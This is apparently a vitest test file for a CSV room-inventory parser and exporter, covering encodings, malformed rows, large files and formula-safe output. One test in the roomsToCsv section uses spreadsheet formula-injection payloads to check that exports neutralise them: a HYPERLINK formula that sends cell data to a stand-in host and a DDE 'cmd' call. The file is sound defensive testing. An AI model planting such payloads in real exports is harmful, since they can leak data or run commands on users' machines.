import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { analyzeRooms } from '../rules/rooms'
import { generateInventoryCsv } from '../../scripts/generate-inventory'
import fc from 'fast-check'
import Papa from 'papaparse'
import { csvCell, formulaSafe } from './csv-write'
import {
  decodeInventoryBytes,
  MAX_REPORTED_ROW_ERRORS,
  parseInventoryCsv,
  roomsToCsv,
} from './inventory-csv'

const HEADER = 'category_path,room_name,category_invitations,disabled,federated_members'
const csv = (...rows: string[]) => [HEADER, ...rows].join('\n')

describe('the sample inventory in public/', () => {
  it('has exactly the counts the docs and the end-to-end test promise', () => {
    const text = readFileSync(
      join(import.meta.dirname, '../../public/sample-room-inventory.csv'),
      'utf8',
    )
    const parsed = parseInventoryCsv(text)
    expect(parsed.headerErrors).toEqual([])
    expect(parsed.rowErrors).toEqual([])
    expect(parsed.rooms).toHaveLength(20)
    const result = analyzeRooms(parsed.rooms, { separator: '/' })
    expect(result.counts).toEqual({ 'GC-03': 2, 'GC-08': 2, 'GC-04': 3, 'GC-06': 2, 'GC-07': 1 })
    expect(result.flagged).toHaveLength(10)
    expect(result.maxDepth).toBe(2)
  })
})

describe('parseInventoryCsv', () => {
  it('reads rooms, quoted commas and quotes, a BOM, CRLF and spaces', () => {
    const parsed = parseInventoryCsv(
      `\uFEFF${HEADER}\r\n Sales / EMEA ,"Leads, ""hot""",ON,no, 2 \r\n,Lobby,yes,true,0\r\n`,
    )
    expect(parsed.rowErrors).toEqual([])
    expect(parsed.rooms).toEqual([
      {
        path: ['Sales', 'EMEA'],
        name: 'Leads, "hot"',
        invitations: true,
        disabled: false,
        federated: 2,
        row: 2,
      },
      { path: [], name: 'Lobby', invitations: true, disabled: true, federated: 0, row: 3 },
    ])
  })
  it('accepts the columns in any order and ignores extra ones', () => {
    const parsed = parseInventoryCsv(
      'room_name,notes,disabled,federated_members,category_invitations,category_path\nR,x,no,0,on,A\n',
    )
    expect(parsed.rooms).toEqual([
      { path: ['A'], name: 'R', invitations: true, disabled: false, federated: 0, row: 2 },
    ])
  })
  it('reports every missing or repeated column, and reads nothing', () => {
    const parsed = parseInventoryCsv('room_name,room_name,disabled\nR,R,no\n')
    expect(parsed.rooms).toEqual([])
    expect(parsed.headerErrors.join('\n')).toMatch(/"category_path" is missing/)
    expect(parsed.headerErrors.join('\n')).toMatch(/"room_name" appears twice/)
  })
  it('says an empty file is empty', () => {
    expect(parseInventoryCsv('').headerErrors[0]).toMatch(/empty/)
    expect(parseInventoryCsv('  \n\n').headerErrors[0]).toMatch(/empty/)
  })
  it('reports each malformed row with its row number and why, and keeps the good rows', () => {
    const parsed = parseInventoryCsv(
      csv(
        'A,Good,on,no,0',
        'A,,on,no,0',
        'A//B,R,on,no,0',
        'A,R,maybe,no,0',
        'A,R,on,perhaps,0',
        'A,R,on,no,-1',
        'A,R,on,no,1.5',
        'A,R,on,no',
        'A,R,on,no,0,extra',
        '',
        'B,Also good,off,yes,',
        'C,Bad again,on,no,x',
      ),
    )
    expect(parsed.rooms.map((r) => r.name)).toEqual(['Good', 'Also good'])
    expect(parsed.rowErrors.map((e) => e.row)).toEqual([3, 4, 5, 6, 7, 8, 9, 10, 13])
    expect(parsed.rowErrors.map((e) => e.message)).toEqual([
      'The room name is empty.',
      expect.stringMatching(/empty category name/),
      expect.stringMatching(/category_invitations is "maybe"/),
      expect.stringMatching(/disabled is "perhaps"/),
      expect.stringMatching(/federated_members is "-1"/),
      expect.stringMatching(/federated_members is "1.5"/),
      expect.stringMatching(/It has 4 columns; the header has 5/),
      expect.stringMatching(/It has 6 columns/),
      expect.stringMatching(/federated_members is "x"/),
    ])
  })
  it('caps the list of row errors and counts the rest', () => {
    const bad = Array.from({ length: MAX_REPORTED_ROW_ERRORS + 7 }, () => 'A,,on,no,0')
    const parsed = parseInventoryCsv(csv(...bad))
    expect(parsed.rowErrors).toHaveLength(MAX_REPORTED_ROW_ERRORS)
    expect(parsed.moreRowErrors).toBe(7)
  })
  it('reads a generated inventory of 10,000 rooms, reporting progress', () => {
    const seen: number[] = []
    const parsed = parseInventoryCsv(generateInventoryCsv(10_000), (f) => seen.push(f))
    expect(parsed.rooms).toHaveLength(10_000)
    expect(seen.at(-1)).toBe(1)
  })
})

describe('every row is read or reported', () => {
  const rows = (n: number, bad: { line: number; text: string }) =>
    csv(
      ...Array.from({ length: n }, (_, i) =>
        i + 2 === bad.line ? bad.text : `Dept/Team ${i % 7},Room ${i},on,no,0`,
      ),
    )
  it.each([
    [
      'a stray quote after a quoted value',
      'A,"Quoted" Room,on,no,0',
      /Text follows the closing quote/,
    ],
    ['a quote that never closes', 'A,"Quoted Room,on,no,0', /never closes/],
    ['a quote that closes on a later line', 'A,"Quoted\nB,"x",on,no,0', /Text follows/],
  ])(
    '%s on line 501 of 100,000 rows: that row is reported, the rest read',
    (_, text, message) => {
      const parsed = parseInventoryCsv(rows(100_000, { line: 501, text }))
      expect(parsed.rowErrors).toEqual([{ row: 501, message: expect.stringMatching(message) }])
      const extraLines = text.split('\n').length - 1
      // A value opened on line 501 and closed on line 502: line 502 is read on its own.
      expect(parsed.rooms).toHaveLength(99_999 + extraLines)
      expect(parsed.rooms.length + parsed.rowErrors.length).toBe(parsed.dataRows)
      // Row numbers are lines of the file.
      const after = parsed.rooms.find((r) => r.name === 'Room 600')
      expect(after?.row).toBe(602 + extraLines)
    },
    60_000,
  )
  it('reads a quoted value over several lines, and counts its lines', () => {
    const parsed = parseInventoryCsv(csv('A,"Two\nlines",on,no,0', 'B,Next,on,no,0'))
    expect(parsed.rowErrors).toEqual([])
    expect(parsed.rooms.map((r) => [r.name, r.row])).toEqual([
      ['Two\nlines', 2],
      ['Next', 4],
    ])
  })
  it('keeps quotes inside a value that is not quoted, as before', () => {
    const parsed = parseInventoryCsv(csv('A,Room "A",on,no,0'))
    expect(parsed.rooms[0]?.name).toBe('Room "A"')
  })
  it('reads CR-only line breaks and semicolon-separated files (and says so)', () => {
    const parsed = parseInventoryCsv(
      `${HEADER.replace(/,/g, ';')}\rA;R1;on;no;0\r\rB;R2;off;no;1\r`,
    )
    expect(parsed.rooms.map((r) => [r.name, r.row])).toEqual([
      ['R1', 2],
      ['R2', 4],
    ])
    expect(parsed.notices.join(' ')).toMatch(/semicolons/)
  })
  it('property: every data line is a room or a reported row, with its line number', () => {
    const cell = fc.oneof(
      fc.constantFrom('A', 'on', 'no', '0', '', '"', '""', '"q"', '"a,b"', 'x"y', '"open'),
      fc.string({ maxLength: 6 }).filter((t) => !/[\r\n]/.test(t)),
    )
    const line = fc.array(cell, { minLength: 1, maxLength: 7 }).map((c) => c.join(','))
    fc.assert(
      fc.property(fc.array(line, { maxLength: 40 }), (lines) => {
        const parsed = parseInventoryCsv(csv(...lines))
        const accounted = parsed.rooms.length + parsed.rowErrors.length + parsed.moreRowErrors
        expect(accounted).toBe(parsed.dataRows)
        const seen = [...parsed.rooms.map((r) => r.row!), ...parsed.rowErrors.map((e) => e.row)]
        expect(new Set(seen).size).toBe(seen.length)
        expect(seen.every((r) => r >= 2 && r <= lines.length + 1)).toBe(true)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('the encoding of the file', () => {
  const bytes = (text: string, encoding: 'latin1' | 'utf8' | 'utf16le') =>
    new Uint8Array(Buffer.from(text, encoding))
  const body = csv('A,Café,on,no,0', 'A,Cafè,on,no,0')
  it('reads Windows-1252 as such, keeps Café and Cafè apart, and says so', () => {
    const parsed = parseInventoryCsv(bytes(body, 'latin1'))
    expect(parsed.encoding).toBe('windows-1252')
    expect(parsed.rooms.map((r) => r.name)).toEqual(['Café', 'Cafè'])
    expect(parsed.notices.join(' ')).toMatch(/not UTF-8.*Windows-1252/)
    expect(analyzeRooms(parsed.rooms, { separator: '/' }).counts['GC-08']).toBe(0)
  })
  it('reads Windows-1252 punctuation (0x80-0x9F) as Windows-1252, not Latin-1', () => {
    const decoded = decodeInventoryBytes(new Uint8Array([0x93, 0x41, 0x94, 0x80]))
    expect(decoded.text).toBe('\u201CA\u201D\u20AC')
  })
  it('reads UTF-8, with or without a byte-order mark, without a notice', () => {
    for (const input of [bytes(body, 'utf8'), bytes(`\uFEFF${body}`, 'utf8')]) {
      const parsed = parseInventoryCsv(input)
      expect(parsed.encoding).toBe('utf-8')
      expect(parsed.notices).toEqual([])
      expect(parsed.rooms.map((r) => r.name)).toEqual(['Café', 'Cafè'])
    }
  })
  it('reads UTF-16 with a byte-order mark', () => {
    const parsed = parseInventoryCsv(bytes(`\uFEFF${body}`, 'utf16le'))
    expect(parsed.encoding).toBe('utf-16le')
    expect(parsed.rooms.map((r) => r.name)).toEqual(['Café', 'Cafè'])
  })
  it('accepts an ArrayBuffer, as a worker receives it', () => {
    const u8 = bytes(body, 'utf8')
    const parsed = parseInventoryCsv(u8.buffer.slice(u8.byteOffset, u8.byteOffset + u8.length))
    expect(parsed.rooms).toHaveLength(2)
  })
  it('warns when text arrives with characters already lost', () => {
    const parsed = parseInventoryCsv(csv('A,Caf\uFFFD,on,no,0'))
    expect(parsed.encoding).toBe('text')
    expect(parsed.notices.join(' ')).toMatch(/not saved as UTF-8/)
  })
})

describe('roomsToCsv', () => {
  it('writes the rooms needing action after a byte-order mark, quoting what needs it', () => {
    expect(
      roomsToCsv([
        {
          row: 3,
          flattenedName: 'A/B, "c"',
          length: 8,
          ruleIds: ['GC-08', 'GC-04'],
          clashWith: 'a/b, "C"',
        },
      ]),
    ).toBe(
      '\uFEFFinventory_row,flattened_name,length,rules,clashes_with\r\n3,"A/B, ""c""",8,GC-08 GC-04,"a/b, ""C"""',
    )
  })
  it('neutralises formulas in every column, names and clashes included', () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+cmd|' /C calc'!A0"]
    const text = roomsToCsv(
      hostile.map((name, i) => ({
        row: i + 2,
        flattenedName: name,
        length: name.length,
        ruleIds: ['GC-08'],
        clashWith: `-${name}`,
      })),
    )
    const cells = Papa.parse<string[]>(text.slice(1)).data.flat()
    expect(cells).toContain(`'${hostile[0]}`)
    expect(cells).toContain(`'${hostile[1]}`)
    expect(cells).toContain(`'-${hostile[1]}`)
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([])
  })
  it('formulaSafe and csvCell: the cell writer any CSV download can use', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(formulaSafe(`${start}1+1`)).toBe(`'${start}1+1`)
    }
    expect(formulaSafe('Sales/EMEA')).toBe('Sales/EMEA')
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvCell('=1,2')).toBe(`"'=1,2"`)
    expect(csvCell('\rx')).toBe(`"'\rx"`)
    expect(csvCell(-5)).toBe('-5')
  })
})
